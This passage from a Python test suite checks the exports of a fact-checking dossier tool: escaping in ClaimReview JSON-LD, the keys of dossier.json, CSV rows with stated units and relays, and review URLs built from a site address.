            make_claim(
                "rated",
                "bags",
                question_id=METHOD.id,
                paraphrase=hostile,
                review=replace(REVIEW, label=hostile, explanation=hostile),
            ),
            outlet=hostile,
            title=hostile,
        ),
    )
    text = claim_review_jsonld(subject, page_url)
    assert "<" not in text and ">" not in text and "&" not in text
    document = json.loads(text)
    assert claim_review_problems(document) == []
    (review,) = document
    assert review["claimReviewed"] == hostile
    assert review["reviewBody"] == hostile
    assert review["reviewRating"]["alternateName"] == hostile
    assert review["itemReviewed"]["appearance"]["publisher"]["name"] == hostile


# dossier.json


def test_dossier_json_has_dependencies_grades_and_reviews() -> None:
    explained = replace(REVIEW, explanation="Later counts differ.")
    subject = make_dossier(
        make_source(
            make_claim("graded", NumberRange(84, None), credibility=2, review=explained),
            make_claim("plain", NumberRange(103, 103)),
            depends_on=AGENCY.id,
            reliability="B",
        ),
        make_source(id="copy", depends_on="news"),
    )
    document = json.loads(dossier_json(subject))
    sources = {source["id"]: source for source in document["sources"]}
    assert (sources["news"]["depends_on"], sources["news"]["reliability"]) == ("agency", "B")
    assert (sources["copy"]["depends_on"], sources["copy"]["reliability"]) == ("news", None)
    claims = {claim["id"]: claim for claim in document["claims"]}
    assert claims["graded"]["credibility"] == 2
    assert claims["graded"]["review"] == {
        "rating": 2,
        "best": 5,
        "worst": 1,
        "label": "Mostly false",
        "date": "2024-02-01",
        "explanation": "Later counts differ.",
    }
    assert (claims["plain"]["credibility"], claims["plain"]["review"]) == (None, None)
    unexplained = with_claims(subject, graded={"review": REVIEW})
    graded = json.loads(dossier_json(unexplained))["claims"][0]
    assert graded["review"]["explanation"] is None


def test_dossier_json_keys_of_sources_and_claims(example: Dossier) -> None:
    document = json.loads(dossier_json(example))
    source_keys = {
        "id",
        "outlet",
        "title",
        "author",
        "url",
        "archive_url",
        "mirror_url",
        "mirror_outlet",
        "language",
        "published",
        "updated",
        "retrieved",
        "sha256",
        "affiliation",
        "depends_on",
        "reliability",
        "content_warnings",
        "citation_only",
        "extent",
        "publish",
        "text",
        "passages",
    }
    claim_keys = {
        "id",
        "source",
        "question",
        "value",
        "relation",
        "hedges",
        "as_of",
        "speaker",
        "speaker_unnamed",
        "relay",
        "origin",
        "quote",
        "paraphrase",
        "lang",
        "translation",
        "entities",
        "note",
        "credibility",
        "review",
    }
    assert [set(source) for source in document["sources"]] == [source_keys] * len(example.sources)
    assert [set(claim) for claim in document["claims"]] == [claim_keys] * len(example.claims)
    # The example grades nothing and depends on nothing: the keys are there, as null.
    assert {(s["depends_on"], s["reliability"]) for s in document["sources"]} == {(None, None)}
    assert {(c["credibility"], c["review"]) for c in document["claims"]} == {(None, None)}


def test_exports_carry_choice_ids_with_labels_relays_languages_and_stated_units() -> None:
    (market,) = (d for d in load_project(FIXTURE_SEEDS).dossiers if d.id == "market-strike-2025")
    document = json.loads(dossier_json(market))
    cause = next(q for q in document["questions"] if q["id"] == "cause")
    assert cause["choices"] == ["army-strike", "misfired-rocket"]
    assert cause["choice_labels"] == {
        "army-strike": "A strike by the Northern Army",
        "misfired-rocket": "A misfired rocket",
    }
    qasim = next(e for e in document["entities"] if e["id"] == "hana-qasim")
    assert (qasim["role"], qasim["speaks_for"], qasim["part_of"]) == (
        "spokeswoman",
        "health-ministry",
        None,
    )
    claims = {claim["id"]: claim for claim in document["claims"]}
    assert claims["wire-cause-officials"]["value"] == {
        "label": "A strike by the Northern Army",
        "text": "army-strike",
    }
    crater = claims["wire-crater"]["value"]
    assert (crater["min"], crater["label"]) == (30.48, "12 in (30.5 cm)")
    assert crater["stated"] == {"unit": "in", "min": 12, "max": 12}
    assert (claims["diario-crater"]["lang"], claims["diario-crater"]["translation"]) == (
        "pt",
        "about 30 centimetres",
    )
    relayed = claims["post-killed-34"]
    assert (relayed["relay"], relayed["origin"]) == (["channel-9"], "entity:vale-front")
    wire = next(s for s in document["sources"] if s["id"] == "wire-vale")
    assert wire["mirror_outlet"] == "Coast Daily"
    rows = {row["claim_id"]: row for row in csv_rows(claims_csv(market))}
    assert (rows["wire-crater"]["value"], rows["wire-crater"]["value_label"]) == (
        "30.48",
        "12 in (30.5 cm)",
    )
    assert (rows["wire-crater"]["stated_value"], rows["wire-crater"]["stated_unit"]) == ("12", "in")
    assert rows["army-cause-rocket"]["value_label"] == "A misfired rocket"
    assert rows["post-killed-unnamed"]["relay"] == "channel-9"
    assert rows["post-killed-unnamed"]["origin"] == "entity:channel-9"
    assert rows["wire-killed-31"]["speaker_name"] == "Hana Qasim, spokeswoman"
    assert rows["diario-strike-time"]["lang"] == "pt"


@pytest.mark.parametrize(
    ("site_url", "address"),
    [
        ("https://dossiers.example/desk/", "https://dossiers.example/desk/dossiers/kerman-2024/"),
        (None, ""),
    ],
    ids=["absolute", "relative"],
)
def test_claim_review_urls_are_absolute_when_the_site_has_an_address(
    example: Dossier, site_url: str | None, address: str
) -> None:
    """Google reads only absolute addresses; without ``site_url`` the address is
    relative to ``claimreview.json``, in the folder of the dossier's pages."""
    claim = example.claims[0]
    rated = with_claims(example, **{claim.id: {"review": REVIEW}})
    (export,) = [
        f for f in DossierFiles(rated, site_url=site_url).render() if "claimreview" in f.path
    ]
    (review,) = json.loads(export.content)
    assert review["url"] == f"{address}sources/{claim.source_id}/#claim-{claim.id}"
